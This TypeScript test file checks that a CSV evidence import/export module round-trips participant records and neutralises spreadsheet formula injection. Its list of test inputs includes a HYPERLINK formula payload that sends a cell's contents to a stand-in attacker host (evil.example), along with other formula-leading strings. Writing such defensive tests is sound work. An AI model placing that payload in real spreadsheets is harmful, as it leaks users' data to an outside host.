import {
	array,
	asyncProperty,
	assert,
	constantFrom,
	date,
	integer,
	option,
	property,
	record,
	string,
} from "fast-check";
import { beforeAll, expect, test } from "vitest";
import { asItWas, writeCsv } from "#app/evidence/import/csv.ts";
import { exportRows } from "#app/evidence/import/export.ts";
import type { Facts } from "#app/evidence/import/fact.ts";
import type { Upload } from "#app/evidence/import/file.ts";
import { personalDataIn } from "#app/evidence/import/personal-data.ts";
import { templateKeys } from "#app/evidence/import/template.ts";
import { bring, check, none, rowsOf } from "./harness.ts";
import { csv, definitions, people, voices } from "./scene.ts";

const exported = (facts: Facts): Upload[] =>
	templateKeys.flatMap((template) => {
		const rows = [...exportRows(template, facts)];
		return rows.length > 1 ? [csv(`${template}.csv`, writeCsv(rows))] : [];
	});

let defined: Facts;

beforeAll(async () => {
	defined = await bring(definitions(), none());
});

test("everything that came in goes out as the same templates and comes in again unchanged", async () => {
	const facts = await bring(voices(), await bring(people(4), defined));
	const files = exported(facts);
	expect(files).toHaveLength(templateKeys.length);
	const again = await check(await rowsOf(files), facts);
	expect(again.problems).toEqual([]);
	expect(again.changes).toEqual([]);
	expect(new Set(again.states.values())).toEqual(new Set(["unchanged"]));
});

// Text as people and machines leave it in cells: formulas, marks, line ends, quotation marks, several scripts.
const harmless = (text: string) =>
	!personalDataIn(text) && !/[\p{Cc}\p{Cs}\ufffd]/u.test(text.replace(/[\t\n\r]/gu, ""));
const written = string({ unit: constantFrom(..."=+-@'\",;\t\n\r |aÄя1 é\u00a0".split("")), maxLength: 12 }).filter(
	harmless,
);
const anyText = option(written, { nil: "" });
const day = (from: string, to: string) =>
	date({ min: new Date(from), max: new Date(to), noInvalidDate: true }).map((at) => at.toISOString().slice(0, 10));

const someone = record({
	role: constantFrom("worker", "student"),
	gender: constantFrom("", "woman", "man", "other", "undisclosed"),
	band: constantFrom("", "25-34", "55+", "under-25"),
	employment: anyText,
	firm: anyText,
	basis: anyText,
	consented: day("2025-01-01", "2025-06-30"),
	enrolled: day("2025-07-01", "2025-07-31"),
	started: day("2025-08-01", "2025-08-31"),
	ended: day("2025-09-01", "2025-09-30"),
	status: constantFrom("enrolled", "started", "completed", "withdrawn"),
	hours: integer({ min: 0, max: 40_000 }).map((n) => n / 1000),
});

test("any participant, whatever stands in the cells, survives export and import", async () => {
	await assert(
		asyncProperty(array(someone, { minLength: 1, maxLength: 5 }), async (group) => {
			const rows = group.map((one, i) => {
				const over = one.status === "completed" || one.status === "withdrawn";
				const hours = `${one.hours}000`.includes(".") ? `${one.hours}0000` : String(one.hours);
				const started = one.status === "enrolled" ? "" : one.started;
				const about = [one.role, one.band, one.gender, one.employment, one.firm, "v1", one.consented, one.basis];
				const course = [one.enrolled, started, one.status, over ? one.ended : "", hours];
				return [`FI-9-${String(i + 1).padStart(3, "0")}`, "RUN-9", ...about, ...course].map((cell) => cell ?? "");
			});
			const header =
				"participant_code run_code participant_role age_band gender employment_status firm_size consent_version consent_date consent_basis enrolled_on started_on status status_date hours_logged";
			const facts = await bring([csv("p.csv", writeCsv([header.split(" "), ...rows]))], defined);
			const again = await check(await rowsOf(exported(facts)), facts);
			expect(again.problems).toEqual([]);
			expect(again.changes).toEqual([]);
		}),
		{ numRuns: 60 },
	);
});

/** The one cell between two others, as it stands in the file. */
const inFile = (cell: string) => writeCsv([["SEMI", cell, "ngo"]]).slice("\ufeffSEMI,".length, -",ngo\r\n".length);
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

test.each([
	"x;=1+1;y",
	'x;=HYPERLINK("http://evil.example/?"&A1,"ok");y',
	"x\t@SUM(A1)",
	"x\n=1+1;",
	'x;"=1+1;y',
	"x;'=1+1",
	";;-1;+1",
	"a\n- one\n- two",
])("nothing within a cell is run where a spreadsheet cuts at semicolons: %j", (cell) => {
	const pieces = inFile(cell).split(/[;\t\n\r]/u);
	expect(pieces.filter((piece) => /^"*[=+\-@]/u.test(piece))).toEqual([]);
	expect(asItWas(unquoted(inFile(cell)))).toBe(cell);
});

test("what was made harmless comes back as it was, whatever it is", () => {
	assert(
		property(string({ unit: constantFrom(..."=+-@'\",;\t\n\ra ".split("")), maxLength: 10 }), (cell) => {
			expect(asItWas(unquoted(inFile(cell)))).toBe(cell);
		}),
		{ numRuns: 3000 },
	);
});
